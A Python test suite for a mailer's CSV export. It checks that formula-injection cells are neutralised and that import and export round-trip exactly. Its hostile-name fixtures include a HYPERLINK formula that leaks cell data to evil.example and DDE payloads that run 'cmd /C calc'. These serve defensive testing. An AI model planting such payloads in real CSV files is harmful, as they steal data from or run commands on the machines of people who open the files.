"""CSV formula injection: the export holds no live formula, and import → export → import
is lossless (mailer/csvsafe.py, docs/security.md).

Hostile names and addresses arrive both ways strangers and old lists have: the sign-up
form and `mailer subscribers import`. The export runs as staff run it, `mailer
subscribers export` in a subprocess.
"""

from __future__ import annotations

import asyncio
import csv
import io
import subprocess
import sys
import uuid
from pathlib import Path

import httpx
import redis.asyncio as aioredis
from forkrun import run_mailer
from helpers import clean_redis, settings_env, sql
from hypothesis import given
from hypothesis import strategies as st

from mailer.config import Settings
from mailer.csvsafe import FORMULA_STARTS, neutralise, restore
from mailer.db import make_engine
from mailer.exporter import export_csv
from mailer.importer import ImportOptions, import_csv
from mailer.migrate import upgrade

MAILER = str(Path(sys.executable).parent / "mailer")

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Verify")',
    "=cmd|' /C calc'!A0",
    "+1 (555) 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2",
    "'=already quoted once",
    "''=quoted twice",
    "'+x",
    "-",
    "@",
    "'",
]
HOSTILE_ADDRESSES = [
    "=1+1@example.com",
    "+cmd@example.com",
    "-2-3@example.com",
    "'=x@example.com",
    "''+y@example.org",
    "=hyperlink@example.net",
]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_live_cell(text: str) -> None:
    for row in rows_of(text)[1:]:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, row


def test_neutralise_and_restore_cover_every_trigger() -> None:
    for cell in [*HOSTILE_NAMES, *HOSTILE_ADDRESSES, "\tTab", "\rCR", "=", "+", "'\t", "'\r x"]:
        safe = neutralise(cell)
        assert safe[:1] not in FORMULA_STARTS, cell
        assert restore(safe) == cell, cell
    for plain in ["Ada Lovelace", "ada@example.com", "'quoted'", "", "2024-01-01T00:00:00"]:
        assert neutralise(plain) == plain and restore(plain) == plain


@given(st.text(max_size=40))
def test_round_trip_is_lossless_for_any_text(cell: str) -> None:
    safe = neutralise(cell)
    assert safe[:1] not in FORMULA_STARTS
    assert restore(safe) == cell


async def run_cli(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return await asyncio.to_thread(run_mailer, list(args), env=env, timeout=120)


async def test_hostile_names_and_addresses_export_as_text_and_round_trip(
    settings: Settings, app_client: httpx.AsyncClient, redis: aioredis.Redis, tmp_path: Path
) -> None:
    # Through the sign-up form: every hostile name, and hostile addresses.
    signed_up = {}
    for i, name in enumerate(HOSTILE_NAMES):
        email = HOSTILE_ADDRESSES[i] if i < len(HOSTILE_ADDRESSES) else f"form{i}@example.com"
        r = await app_client.post("/subscribe", data={"email": email, "name": name})
        assert r.status_code == 202, r.text
        signed_up[email] = name
    # Through an import: the same names on other addresses, hostile consent sources too.
    listed = tmp_path / "list.csv"
    with listed.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(["email", "name", "status", "consent_source"])
        for i, name in enumerate(HOSTILE_NAMES):
            writer.writerow([f"list{i}@example.org", name, "confirmed", name])
    opts = ImportOptions(confirmed=True, consent_source="=petition")
    report = await import_csv(settings, listed, opts)
    assert (report.imported, report.bad) == (len(HOSTILE_NAMES), 0)

    stored = dict(await sql(settings, "SELECT email, name FROM subscribers"))
    assert len(stored) == 2 * len(HOSTILE_NAMES)
    for email, name in signed_up.items():
        assert stored[email] == name  # stored as typed: only the export changes them

    exported = await run_cli(settings_env(settings), "subscribers", "export")
    assert exported.returncode == 0, exported.stderr
    assert_no_live_cell(exported.stdout)
    # A spreadsheet would show the original text: one apostrophe in front, nothing else.
    shown = {r[0].removeprefix("'"): r[1] for r in rows_of(exported.stdout)[1:]}
    for email, name in signed_up.items():
        assert shown[email] in (name, "'" + name)

    # Import the export into a fresh database: every value comes back exactly.
    fresh = settings.model_copy(
        update={
            "database_url": f"sqlite+aiosqlite:///{tmp_path / 'fresh.db'}",
            "queue_name": f"test-{uuid.uuid4().hex[:10]}",
        }
    )
    engine = make_engine(fresh.database_url)
    await upgrade(engine)
    try:
        dump = tmp_path / "export.csv"
        dump.write_text(exported.stdout, encoding="utf-8")
        report = await import_csv(fresh, dump, ImportOptions())
        assert (report.read, report.imported, report.bad) == (len(stored), len(stored), 0)
        columns = "email, name, status, consent_source"
        before = sorted(await sql(settings, f"SELECT {columns} FROM subscribers"))
        after = sorted(await sql(fresh, f"SELECT {columns} FROM subscribers"))
        assert after == before
        again = io.StringIO()
        await export_csv(engine, again)
        assert again.getvalue() == exported.stdout  # export → import → export: same bytes
    finally:
        await engine.dispose()
        await clean_redis(redis, fresh.queue_name)
